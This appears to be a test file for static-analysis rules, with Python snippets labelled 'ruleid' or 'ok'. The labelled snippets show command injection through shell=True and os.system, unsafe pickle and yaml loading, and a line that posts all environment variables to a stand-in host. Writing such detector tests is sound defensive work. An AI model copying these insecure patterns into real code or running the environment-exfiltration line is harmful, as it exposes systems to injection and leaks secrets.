import os
import pickle
import subprocess

import requests
import yaml


def run(user_cmd):
    # ruleid: subprocess-shell-true-with-input
    subprocess.run(user_cmd, shell=True)
    # ok: subprocess-shell-true-with-input
    subprocess.run("ls -l", shell=True)
    # ruleid: subprocess-shell-true-with-input
    os.system("tar czf out.tgz " + user_cmd)


def load(blob, text):
    # ruleid: pickle-load-untrusted
    pickle.loads(blob)
    # ruleid: pickle-load-untrusted
    yaml.load(text)
    # ok: pickle-load-untrusted
    yaml.safe_load(text)


def report():
    # ruleid: environment-sent-over-network
    requests.post("https://collector.invalid/x", json=dict(os.environ))
    # ok: environment-sent-over-network
    requests.post("https://api.invalid/x", json={"status": "ok"})
